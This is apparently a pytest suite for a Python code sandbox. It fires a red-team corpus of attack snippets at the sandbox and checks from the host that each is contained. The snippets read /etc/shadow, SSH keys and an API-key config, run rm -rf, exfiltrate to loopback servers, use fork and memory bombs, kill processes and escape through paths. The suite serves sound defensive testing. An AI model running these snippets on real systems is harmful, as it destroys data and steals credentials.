"""PythonTester.run against a red-team corpus, every snippet judged from the host side, and a benign corpus (every
snippet right), each run three ways: by root with the agent's own interpreter, by root with a system-Python
interpreter (so the run gets a dedicated uid), and by an ordinary user (a throw-away account with its own home,
config.ini and interpreter; see redteam_helpers).

The corpus covers the classes of issue 15: the in-interpreter hook (patched, bypassed, subinterpreters), path tricks,
writes and native code without an ``open`` event, per-process limits, host views (/proc, host name, /sys, other
users' processes), the result channel, and a config or home directory under /tmp. Attacks run only after the
limits that contain them are proven by mild snippets (the ``proven`` fixture): the pids limit before the fork bomb,
the memory limit before the memory bomb, the PID namespace before any signal, the network namespace before any
connection.
"""
from __future__ import annotations

import dataclasses
import importlib.util
import json
import os
import platform
import resource
import socket
import stat
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest
from dosaku import DosakuError
from dosaku_python.python_tester import PythonTester
from redteam_helpers import UserAgent, can_make_users, make_user

SECRET = "sk-redteam-" + uuid.uuid4().hex
RUN_LIMITS = {"wall_time": 3, "cpu_time": 1, "memory_mb": 256, "processes": 16, "output_bytes": 100_000}
CEILING = dict(RUN_LIMITS, wall_time=8)  # what the agent learns Tester with; the attacks run under RUN_LIMITS
RUNNER_MARK = "/run/dosaku/_runner.py"
X86_64 = platform.machine() == "x86_64"

FIND_CHANNEL = ("import os, stat, fcntl\nfd = next(fd for fd in range(3, 256) if _is_channel(fd))\n")
CHANNEL_HELPER = ("def _is_channel(fd):\n    import os, stat, fcntl\n    try:\n        mode = os.fstat(fd).st_mode\n"
                  "    except OSError:\n        return False\n    return stat.S_ISFIFO(mode) and "
                  "fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY\n")


def channel_attack(payload: str) -> str:
    """A snippet writing ``payload`` (a Python expression giving bytes) on the result channel, then leaving."""
    return CHANNEL_HELPER + FIND_CHANNEL + f"os.write(fd, {payload})\nos._exit(0)"


ATTACKS: dict[str, str] = {
    # --- files (the old corpus) ------------------------------------------------------------------------------
    "rmtree_marker_dir": "import shutil\nshutil.rmtree({marker_dir!r})",
    "remove_marker": "import os\nos.remove({marker!r})",
    "overwrite_marker": "open({marker!r}, 'w').write('pwned')",
    "append_marker": "open({marker!r}, 'a').write('pwned')",
    "os_open_truncate": "import os\nos.open({marker!r}, os.O_WRONLY | os.O_TRUNC)",
    "rename_marker": "import os\nos.rename({marker!r}, {marker!r} + '.gone')",
    "chmod_marker": "import os\nos.chmod({marker!r}, 0o777)",
    "write_host_tmp": "open({host_tmp!r}, 'w').write('pwned')",
    "symlink_escape": "import os\nos.symlink({marker!r}, 'link')\nopen('link', 'w').write('pwned')",
    "hardlink_escape": "import os\nos.link({marker!r}, 'hard')\nopen('hard', 'w').write('pwned')",
    "read_config": "print(open({config!r}).read())",
    "read_environment": "import os\nprint(dict(os.environ))",
    "walk_home": "import os\nfor root, dirs, files in os.walk({home!r}):\n    print(root, files)\n"
                 "    for f in files:\n        print(open(os.path.join(root, f)).read())",
    "read_root_ssh_keys": "import os\nprint([open(os.path.join('/root/.ssh', f)).read()\n"
                          "       for f in os.listdir('/root/.ssh')])",
    "read_shadow": "print(open('/etc/shadow').read())",
    "fill_disk": "i = 0\nwhile i < 200:\n    open(f'f{{i}}', 'wb').write(b'z' * 4 * 1024 * 1024)\n    i += 1",
    # --- class 1: the in-interpreter hook, patched or bypassed -------------------------------------------------
    "patched_path_helpers_then_read": "import posixpath, os.path\nposixpath.realpath = os.path.realpath = "
                                      "lambda p, **k: '/tmp/ok'\nprint(open({config!r}).read())",
    "patched_builtins_then_write": "import builtins, io\nbuiltins.open = io.open\n"
                                   "io.open({marker!r}, 'w').write('pwned')",
    "ctypes_libc_open_config": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                               "fd = libc.open({config!r}.encode(), os.O_RDONLY)\n"
                               "print(os.read(fd, 4096) if fd >= 0 else ('errno', ctypes.get_errno()))",
    "ctypes_system_rm": "import ctypes\nctypes.CDLL(None).system(b'rm -rf {marker_dir}; cat {config}')",
    "subprocess_reads_config": "import subprocess\nprint(subprocess.run(['cat', {config!r}], capture_output=True))",
    "subprocess_shell": "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > {marker}'])",
    "os_system_rm": "import os\nos.system('rm -rf {marker_dir}')",
    "os_exec": "import os\nos.execv('/bin/sh', ['sh', '-c', 'rm -rf {marker_dir}; cat {config}'])",
    "posix_spawn": "import os\nos.posix_spawn('/bin/rm', ['rm', {marker!r}], {{}})",
    "subinterpreter_reads_config": "import _xxsubinterpreters as interpreters\ni = interpreters.create()\n"
                                   "interpreters.run_string(i, 'print(open({config!r}).read())')",
    "subinterpreter_writes_marker": "import _xxsubinterpreters as interpreters\ni = interpreters.create()\n"
                                    "interpreters.run_string(i, \"open({marker!r}, 'w').write('pwned')\")",
    "subclass_walk_system": "w = [c for c in ().__class__.__base__.__subclasses__()\n"
                            "     if c.__name__ == '_wrap_close'][0]\n"
                            "w.__init__.__globals__['system']('rm -rf {marker_dir}')",
    # --- class 2: path tricks ------------------------------------------------------------------------------
    "bytes_path_with_bad_utf8": "import os\nprint(open(b'/tmp/\\xff/../..' + {config!r}.encode(), 'rb').read())",
    "dir_fd_escape": "import os\nfd = os.open({marker_dir!r}, os.O_RDONLY)\n"
                     "os.open('new', os.O_WRONLY | os.O_CREAT, dir_fd=fd)",
    "relative_symlink_escape": "import os\nos.symlink('../' * 12 + {config!r}.lstrip('/'), 'rel')\n"
                               "print(open('rel').read())",
    "proc_self_root_escape": "print(open('/proc/self/root' + {config!r}).read())",
    "symlink_swap_race": "import os, threading\nopen('decoy', 'w').write('x')\nstop = False\n"
                         "def flip():\n    for _ in range(3000):\n        for target in ('decoy', {config!r}):\n"
                         "            try:\n                os.remove('l')\n            except OSError:\n"
                         "                pass\n            os.symlink(target, 'l')\n"
                         "t = threading.Thread(target=flip)\nt.start()\nseen = set()\nfor _ in range(3000):\n"
                         "    try:\n        seen.add(open('l').read()[:80])\n    except OSError:\n        pass\n"
                         "t.join()\nprint(seen)",
    "unix_socket_of_a_host_service": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(1)\n"
                                     "s.connect({unix_socket!r})\ns.sendall(b'stolen')",
    "abstract_unix_socket_of_a_host_service": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(1)\n"
                                              "s.connect('\\0' + {abstract!r})\ns.sendall(b'stolen')",
    # --- class 3: writes and native code without an open event ---------------------------------------------
    "sqlite_database_beside_marker": "import sqlite3\nc = sqlite3.connect({marker_dir!r} + '/evil.db')\n"
                                     "c.execute('create table t (x)')\nc.commit()",
    "sqlite_database_in_host_tmp": "import sqlite3\nc = sqlite3.connect({host_tmp!r})\n"
                                   "c.execute('create table t (x)')\nc.commit()",
    "readline_history_over_marker": "import readline\nreadline.add_history('pwned')\n"
                                    "readline.write_history_file({marker!r})",
    "c_extension_from_work_dir": "import glob, importlib.machinery, importlib.util, os, shutil, sys\n"
                                 "src = sorted(glob.glob(sys.base_prefix + '/lib/python3*/lib-dynload/_*.so') + "
                                 "glob.glob('/usr/lib/python3*/lib-dynload/_*.so'))[0]\n"
                                 "name = os.path.basename(src).split('.')[0]\n"
                                 "shutil.copy(src, os.path.basename(src))\n"
                                 "loader = importlib.machinery.ExtensionFileLoader(name, os.path.basename(src))\n"
                                 "importlib.util.module_from_spec(importlib.util.spec_from_loader(name, loader))",
    "ctypes_library_from_work_dir": "import ctypes, ctypes.util, shutil\n"
                                    "shutil.copy('/usr/lib/x86_64-linux-gnu/libutil.so.1', 'evil.so')\n"
                                    "ctypes.CDLL('./evil.so')",
    "program_from_work_dir": "import os, shutil, subprocess\nshutil.copy('/usr/bin/true', 'mytrue')\n"
                             "os.chmod('mytrue', 0o755)\nsubprocess.run(['./mytrue'])",
    "forbidden_system_calls": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                              "calls = {{'ptrace': (101, 16, 1, 0, 0), 'unshare': (272, 0x10000000),\n"
                              "         'keyctl': (250, 0, 0), 'bpf': (321, 0, 0, 0),\n"
                              "         'perf_event_open': (298, 0, 0, -1, -1, 0), 'userfaultfd': (323, 0),\n"
                              "         'io_uring_setup': (425, 1, 0), 'mount': (165, 0, 0, 0, 0, 0),\n"
                              "         'setns': (308, 0, 0), 'init_module': (175, 0, 0, 0)}}\n"
                              "out = {{}}\nfor name, args in calls.items():\n"
                              "    out[name] = [libc.syscall(*args), ctypes.get_errno()]\nout",
    # --- class 4: limits per process, IPC that outlives the run ----------------------------------------------
    "six_children_hold_memory": "import os, time\nkids = []\nfor _ in range(6):\n    pid = os.fork()\n"
                                "    if pid == 0:\n        x = bytearray(150 * 1024 * 1024)\n"
                                "        x[::4096] = b'x' * len(x[::4096])\n        time.sleep(2)\n"
                                "        os._exit(0)\n    kids.append(pid)\ntime.sleep(1.5)\n"
                                "print(sum(os.waitpid(p, os.WNOHANG) == (0, 0) for p in kids))",
    "children_share_cpu_time": "import os\nfor _ in range(3):\n    if os.fork() == 0:\n"
                               "        while True:\n            pass\nwhile True:\n    pass",
    "sysv_shared_memory_outlives_the_run": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                                           "ident = libc.shmget(0, 1 << 20, 0o1666)\nprint(ident)",
    "posix_shared_memory": "from multiprocessing import shared_memory\n"
                           "shared_memory.SharedMemory(name='dosaku-rt', create=True, size=4096)",
    # --- class 5: host views ------------------------------------------------------------------------------
    "list_host_processes": "import os\nprint([open(f'/proc/{{p}}/cmdline').read() for p in os.listdir('/proc') "
                           "if p.isdigit()])",
    "secret_in_another_programs_argv": "print(open('/proc/{sentinel}/cmdline').read())",
    "host_nobody_process_root": "import os\nprint(os.listdir('/proc/{nobody}/root/'), "
                                "os.readlink('/proc/{nobody}/cwd'))",
    "host_name_and_network": "import os, socket\nprint(socket.gethostname(), os.listdir('/sys/class/net'))",
    "set_host_name": "import socket\nsocket.sethostname('pwned')",
    "list_root_directory": "import os\nprint(os.listdir('/'), os.listdir('/home'), os.listdir('/etc'))",
    # --- signals and processes ----------------------------------------------------------------------------
    "kill_parent": "import os, signal\nos.kill({ppid}, signal.SIGKILL)",
    "killpg_parent": "import os, signal\nos.killpg({ppid}, signal.SIGKILL)",
    "kill_sentinel": "import os, signal\nos.kill({sentinel}, signal.SIGKILL)",
    "kill_everything": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "fork_bomb": "import os\nwhile True:\n    os.fork()",
    "memory_bomb": "x = []\nwhile True:\n    x.append(bytearray(10 ** 7))",
    "infinite_loop": "while True:\n    pass",
    "sleep_forever": "import time\ntime.sleep(10 ** 6)",
    "huge_output": "while True:\n    print('x' * 10000)",
    "huge_output_raw_fd": "import os\nwhile True:\n    os.write(1, b'y' * 65536)",
    "ignore_signals": "import signal\nfor s in (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT, signal.SIGALRM):\n"
                      "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass",
    "orphan_survives": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(6)\n"
                       "    open({marker!r}, 'w').write('pwned')\nelse:\n    time.sleep(0.2)",
    "del_after_timeout": "class Bomb:\n    def __del__(self):\n        open({marker!r}, 'w').write('pwned')\n"
                         "b = Bomb()\nwhile True:\n    pass",
    # --- sockets --------------------------------------------------------------------------------------------
    "socket_exfiltration": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
                           "s.sendall(b'stolen')",
    "urllib_exfiltration": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/x', timeout=1)",
    "dns_lookup": "import socket\nsocket.getaddrinfo('localhost', {port})",
    "netlink_socket": "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
    # --- class 6: the result channel --------------------------------------------------------------------------
    "channel_deeply_nested": channel_attack("b'[' * 200000 + b']' * 200000"),
    "channel_nested_past_the_recursion_limit": channel_attack("b'{{\"value\": ' + b'[' * 5000 + b']' * 5000 + b'}}'"),
    "channel_nested_past_the_depth_limit": channel_attack("b'{{\"value\": ' + b'[' * 100 + b']' * 100 + b'}}'"),
    "channel_a_list": channel_attack("b'[1, 2, 3]'"),
    "channel_unknown_keys": channel_attack("b'{{\"value\": 1, \"evil\": true}}'"),
    "channel_bad_exit_code": channel_attack("b'{{\"exit_code\": \"zero\"}}'"),
    "channel_huge_exit_code": channel_attack("b'{{\"exit_code\": 1e308}}'"),
    "channel_bad_error": channel_attack("b'{{\"error\": {{\"type\": 1}}}}'"),
    "channel_not_json": channel_attack("b'\\xff\\xfe not json'"),
    "channel_ten_megabytes_of_objects": CHANNEL_HELPER + FIND_CHANNEL +
    "chunk = b'{{}}' * 32768\nfor _ in range(160):\n    os.write(fd, chunk)\nos._exit(0)",
}
if not X86_64:
    del ATTACKS["forbidden_system_calls"]

#: What the sandbox must have seen (beyond the host-side judgement every attack gets).
CHANNEL_PROBLEMS = {
    "channel_deeply_nested": "lists and objects",
    "channel_nested_past_the_recursion_limit": "nested deeper than 64",
    "channel_nested_past_the_depth_limit": "nested deeper than 64",
    "channel_a_list": "must be a JSON object, not a list",
    "channel_unknown_keys": "unknown fields ['evil']",
    "channel_bad_exit_code": "exit_code must be a whole number",
    "channel_huge_exit_code": "exit_code must be a whole number",
    "channel_bad_error": "error must be an object with exactly the fields",
    "channel_not_json": "not valid JSON",
    "channel_ten_megabytes_of_objects": "more than 1024 KiB",
}

BENIGN: dict[str, tuple[str, str, object]] = {  # name: (code, stdout, value)
    "gcd": ("def gcd(a, b):\n    while b:\n        a, b = b, a % b\n    return a\ngcd(10, 15)", "", 5),
    "fibonacci": ("from functools import lru_cache\n@lru_cache\ndef fib(n):\n    return n if n < 2 else "
                  "fib(n - 1) + fib(n - 2)\nfib(80)", "", 23416728348467685),
    "primes": ("n = 50\nsieve = [True] * n\nfor i in range(2, n):\n    for j in range(i * i, n, i):\n"
               "        sieve[j] = False\n[i for i in range(2, n) if sieve[i]]", "",
               [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47]),
    "sorting": ("print(sorted(['pear', 'Apple', 'fig'], key=str.lower))", "['Apple', 'fig', 'pear']\n", None),
    "printing": ("for i in range(3):\n    print(f'line {i}', end='; ')\nprint()", "line 0; line 1; line 2; \n", None),
    "unicode": ("print('héllo wörld ✓')", "héllo wörld ✓\n", None),
    "classes": ("class P:\n    def __init__(self, x):\n        self.x = x\n    def __repr__(self):\n"
                "        return f'P({self.x})'\nprint([P(1), P(2)])", "[P(1), P(2)]\n", None),
    "generators": ("sum(x * x for x in range(10) if x % 2)", "", 165),
    "handled_exception": ("try:\n    {}['k']\nexcept KeyError as e:\n    print('missing', e)", "missing 'k'\n", None),
    "json_round_trip": ("import json\njson.loads(json.dumps({'a': [1, 2.5, None]}))", "", {"a": [1, 2.5, None]}),
    "files_in_work_dir": ("open('data.csv', 'w').write('a,b\\n1,2\\n')\nimport csv\nlist(csv.reader(open('data.csv')))",
                          "", [["a", "b"], ["1", "2"]]),
    "temporary_files": ("import tempfile\nwith tempfile.NamedTemporaryFile('w+') as f:\n    f.write('t')\n"
                        "    f.seek(0)\n    print(f.read())", "t\n", None),
    "standard_library": ("import collections, itertools, math, re, datetime, decimal, fractions\n"
                         "str(fractions.Fraction(1, 3) + fractions.Fraction(1, 6))", "", "1/2"),
    "asyncio": ("import asyncio\nasync def f():\n    await asyncio.sleep(0)\n    return 7\nasyncio.run(f())", "", 7),
    "threads": ("import threading\nout = []\nts = [threading.Thread(target=out.append, args=(i,)) for i in range(4)]\n"
                "[t.start() for t in ts]\n[t.join() for t in ts]\nsorted(out)", "", [0, 1, 2, 3]),
    "a_child_process": ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(5)'], "
                        "capture_output=True, text=True).stdout", "", "5\n"),
    "multiprocessing_pool": ("from concurrent.futures import ProcessPoolExecutor\nwith ProcessPoolExecutor(2) as p:\n"
                             "    print(list(p.map(abs, [-1, -2])))", "[1, 2]\n", None),
}
if importlib.util.find_spec("numpy") is not None:
    BENIGN["numpy"] = ("import numpy as np\na = np.arange(6).reshape(2, 3)\nprint(a.sum())\n(a @ a.T).tolist()",
                       "15\n", [[5, 14], [14, 50]])

MODES = ["root", "root-dedicated-uid", "ordinary-user"]


# --- the three ways of running ---------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def user():
    if not can_make_users():
        pytest.skip("needs root, useradd and /usr/bin/python3 to make an ordinary user")
    account = make_user()
    yield account
    account.remove()


class InProcess:
    """An agent in this (root's) process."""

    def __init__(self, python: str | None):
        self.tester = PythonTester(python=python, **CEILING)

    def run(self, code: str, **limits) -> dict:
        try:
            answer = {"result": dataclasses.asdict(self.tester.run(code, **limits))}
        except DosakuError as error:
            answer = {"raised": type(error).__name__, "message": str(error), "dosaku_error": True}
        answer["standby"] = self.tester.sandbox.standby_pids()  # the fresh sandbox waiting for the next run
        return answer

    @staticmethod
    def peak_memory_mb() -> float:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

    def close(self) -> None:
        self.tester.unload()  # its standby sandbox goes too


@pytest.fixture(scope="module", params=MODES)
def mode(request):
    return request.param


@pytest.fixture(scope="module")
def world(mode, request, tmp_path_factory):
    """What the attacks go after: markers, a config with a key, a TCP server, a unix socket server (by path and
    abstract), a process with the key on its command line, a process of the host's nobody; and the agent."""
    owner = request.getfixturevalue("user") if mode != "root" else None
    if mode == "ordinary-user":
        home = owner.home
    else:
        home = tmp_path_factory.mktemp("home")
    marker_dir = home / "precious"
    marker_dir.mkdir()
    marker = marker_dir / "marker.txt"
    marker.write_text("untouched")
    config = home / ".config" / "dosaku" / "config.ini"
    config.parent.mkdir(parents=True)
    config.write_text(f"[API_KEYS]\nOPENAI = {SECRET}\n")
    config.chmod(0o600)
    if mode == "ordinary-user":
        for path in (marker_dir, marker, config.parent.parent, config.parent, config):
            owner.chown(path)
    servers = Servers(home, owner)
    as_owner = {"user": owner.uid, "group": owner.gid, "extra_groups": []} if mode == "ordinary-user" else {}
    sentinel = subprocess.Popen([sys.executable if not as_owner else owner.python, "-c",
                                 "import time; time.sleep(600)", SECRET], **as_owner)
    nobody = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sleep", "600"],
                              cwd="/")
    if mode == "ordinary-user":
        agent = UserAgent(owner, {"OPENAI_API_KEY": SECRET}, learn=CEILING)
        ppid = agent.process.pid
    else:
        os.environ["OPENAI_API_KEY"] = SECRET
        agent = InProcess(owner.python if mode == "root-dedicated-uid" else None)
        ppid = os.getpid()
    try:
        yield {
            "mode": mode, "agent": agent, "home": str(home), "marker_dir": str(marker_dir), "marker": str(marker),
            "config": str(config), "port": servers.port, "unix_socket": servers.unix_path,
            "abstract": servers.abstract, "servers": servers, "ppid": ppid, "sentinel": sentinel.pid,
            "nobody": nobody.pid, "host_tmp": f"/tmp/dosaku-pwned-{uuid.uuid4().hex}",
            "marker_mode": stat.S_IMODE(marker.stat().st_mode), "hostname": socket.gethostname(),
        }
    finally:
        os.environ.pop("OPENAI_API_KEY", None)
        agent.close()
        servers.stop()
        for process in (sentinel, nobody):
            process.kill()
            process.wait()


class Servers:
    """A TCP server on loopback and a unix socket server (by path and abstract name) recording any connection."""

    def __init__(self, directory: Path, owner):
        self.connections: list[bytes] = []
        self.stopping = threading.Event()
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix_path = str(directory / "service.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_path)
        os.chmod(self.unix_path, 0o777)
        self.unix.listen()
        self.abstract = f"dosaku-rt-{uuid.uuid4().hex}"
        self.abstract_server = socket.socket(socket.AF_UNIX)
        self.abstract_server.bind("\0" + self.abstract)
        self.abstract_server.listen()
        self.threads = [threading.Thread(target=self.serve, args=(s,), daemon=True)
                        for s in (self.tcp, self.unix, self.abstract_server)]
        for thread in self.threads:
            thread.start()

    def serve(self, server: socket.socket) -> None:
        server.settimeout(0.2)
        while not self.stopping.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            connection.settimeout(1)
            try:
                self.connections.append(connection.recv(100) or b"<connected>")
            except OSError:
                self.connections.append(b"<connected>")
            connection.close()

    def stop(self) -> None:
        self.stopping.set()
        for thread in self.threads:
            thread.join(timeout=5)
        for server in (self.tcp, self.unix, self.abstract_server):
            server.close()


@pytest.fixture(scope="module")
def proven(world):
    """The limits and namespaces the attacks rely on, each proven by a mild snippet first."""
    agent = world["agent"]

    def run(code: str, **limits) -> dict:
        answer = agent.run(code, **limits)
        assert "result" in answer, answer
        return answer["result"]

    mild = run("import os, time\nn = 0\ntry:\n    for _ in range(5):\n        if os.fork() == 0:\n"
               "            time.sleep(2)\n            os._exit(0)\n        n += 1\nfinally:\n    print(n)",
               processes=3)
    assert mild["error"] and mild["error"]["type"] == "BlockingIOError" and int(mild["stdout"]) < 5, mild
    assert run("x = bytearray(300 * 1024 * 1024)", memory_mb=200)["limit"] == "memory"
    assert run("while True:\n    pass", cpu_time=1, wall_time=8)["limit"] == "cpu_time"
    assert run("import time\ntime.sleep(3)", wall_time=0.5)["limit"] == "wall_time"
    assert run("print('x' * 5000)", output_bytes=1000)["limit"] == "output"
    first = run("import os\n[os.getpid(), sorted(int(p) for p in os.listdir('/proc') if p.isdigit())]")
    assert first["value"][0] <= 3 and max(first["value"][1]) <= 3, first  # its own PID namespace
    interfaces = run("open('/proc/net/dev').read().split('\\n')[2:]")["value"]
    assert [line.split(":")[0].strip() for line in interfaces if line.strip()] == ["lo"]  # its own network
    refused = run("import socket\nsocket.socket(socket.AF_INET)")
    assert refused["error"]["type"] == "PermissionError", refused  # no TCP/IP socket at all
    isolation = first["isolation"]
    assert isolation["level"] == "kernel" and isolation["noexec_work_dir"] and isolation["landlock"]["scoped"]
    if world["mode"] != "ordinary-user":
        assert isolation["cgroup"]["controllers"], isolation  # whole-run limits for root
        whole = run("import os, time\nif os.fork() == 0:\n    x = bytearray(150 * 1024 * 1024)\n"
                    "    x[::4096] = b'x' * len(x[::4096])\n    time.sleep(3)\n    os._exit(0)\ntime.sleep(0.5)\n"
                    "y = bytearray(100 * 1024 * 1024)\ny[::4096] = b'y' * len(y[::4096])\ntime.sleep(1)",
                    memory_mb=200)
        assert whole["usage"]["oom_kills"] >= 1 and whole["usage"]["memory_peak_mb"] <= 201, whole
    else:
        assert isolation["cgroup"]["fallback"] == "rlimits per process only"
    if world["mode"] == "root-dedicated-uid":
        assert isolation["host_uid"] >= 0x5D050000, isolation
    return isolation


# --- judging from the host side ----------------------------------------------------------------------------------
def shared_memory_segments() -> set[str]:
    lines = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    return {line.split()[1] for line in lines if line.strip()}


def leftover_sandbox_processes(host_uid: int | None, standby: set[int]) -> list[str]:
    """Processes still running the sandbox's runner (forks keep its command line), or of the run's dedicated uid;
    the standby sandbox (started for the next run, never used) is not the run's."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) in standby:
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            status = (entry / "status").read_text()
        except OSError:
            continue
        if "\nState:\tZ" in status or descends_from(int(entry.name), standby):
            continue
        uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
        if RUNNER_MARK in cmdline or (host_uid is not None and host_uid >= 0x5D050000 and uid == host_uid):
            found.append(f"{entry.name} uid={uid} {cmdline[:100]}")
    return found


def descends_from(pid: int, ancestors: set[int]) -> bool:
    """Whether ``pid`` is one of ``ancestors`` or below one (the standby's processes appear as it starts)."""
    for _ in range(64):
        if pid in ancestors:
            return True
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            return False
        pid = int(next(line for line in status.splitlines() if line.startswith("PPid:")).split()[1])
        if pid <= 1:
            return False
    return False


def judge(world: dict, name: str, answer: dict, shm_before: set[str], shm_files_before: set[str]) -> None:
    everything = json.dumps(answer)
    assert SECRET not in everything, name
    if "raised" in answer:
        assert answer["dosaku_error"], f"{name}: the agent raised a non-Dosaku error: {answer}"
    assert Path(world["marker"]).read_text() == "untouched", name
    assert stat.S_IMODE(Path(world["marker"]).stat().st_mode) == world["marker_mode"]
    assert sorted(os.listdir(world["marker_dir"])) == ["marker.txt"]
    assert Path(world["config"]).read_text() == f"[API_KEYS]\nOPENAI = {SECRET}\n"
    assert not os.path.exists(world["host_tmp"])
    assert world["servers"].connections == [], world["servers"].connections
    os.kill(world["sentinel"], 0)  # still alive (raises otherwise)
    os.kill(world["nobody"], 0)
    assert socket.gethostname() == world["hostname"]
    assert shared_memory_segments() <= shm_before, "a SysV shared memory segment outlived the run"
    assert set(os.listdir("/dev/shm")) <= shm_files_before
    host_uid = answer.get("result", {}).get("isolation", {}).get("host_uid")
    for _ in range(50):  # the kernel takes a moment to reap a killed namespace
        left = leftover_sandbox_processes(host_uid, set(answer.get("standby", ())))
        if not left:
            break
        time.sleep(0.05)
    assert left == [], left


def inside(world: dict, name: str, result: dict) -> None:
    """What the run must have seen or been refused, beyond the host-side judgement."""
    error = result["error"] or {}
    if name in CHANNEL_PROBLEMS:
        assert error.get("type") == "ResultInvalid" and CHANNEL_PROBLEMS[name] in error["message"], result
    elif name == "forbidden_system_calls":
        assert all(value[0] == -1 and value[1] in (1, 38) for value in result["value"].values()), result["value"]
    elif name in ("c_extension_from_work_dir", "ctypes_library_from_work_dir"):
        assert "failed to map segment" in error.get("message", "") or "not permitted" in error.get("message", ""), \
            result
    elif name == "program_from_work_dir":
        assert error.get("type") == "PermissionError", result
    elif name == "host_name_and_network":
        assert error.get("type") == "FileNotFoundError" or "dosaku-sandbox" in result["stdout"], result
    elif name == "list_host_processes":
        assert SECRET not in result["stdout"] and "sleep" not in result["stdout"], result
    elif name == "six_children_hold_memory" and world["mode"] != "ordinary-user":
        assert result["usage"]["memory_peak_mb"] <= 201 and result["usage"]["oom_kills"] >= 1, result
    elif name == "children_share_cpu_time":
        assert result["limit"] in ("cpu_time", "wall_time"), result  # wall time first on a busy machine
        if world["mode"] != "ordinary-user":
            assert result["usage"]["cpu_seconds"] < 1.5, result  # four busy processes: the whole run's second


def test_corpus_sizes():
    assert len(ATTACKS) >= 70 and len(BENIGN) >= 15


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_is_contained(world, proven, name):
    code = ATTACKS[name].format(**world)
    limits = dict(RUN_LIMITS, memory_mb=200) if name == "six_children_hold_memory" else RUN_LIMITS
    shm_before, shm_files_before = shared_memory_segments(), set(os.listdir("/dev/shm"))
    memory_before = world["agent"].peak_memory_mb()
    answer = world["agent"].run(code, **limits)
    judge(world, name, answer, shm_before, shm_files_before)
    assert world["agent"].peak_memory_mb() - memory_before < 64, "the agent's memory grew with the attack"
    if "result" in answer:
        inside(world, name, answer["result"])


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_snippet_runs_correctly(world, proven, name):
    code, stdout, value = BENIGN[name]
    if name == "numpy" and world["mode"] != "root":
        pytest.skip("numpy is installed for the agent's own interpreter only")
    answer = world["agent"].run(code, **RUN_LIMITS)
    result = answer.get("result")
    assert result is not None and result["error"] is None and result["limit"] is None, (name, answer)
    assert result["stdout"] == stdout and result["value"] == value and result["exit_code"] == 0
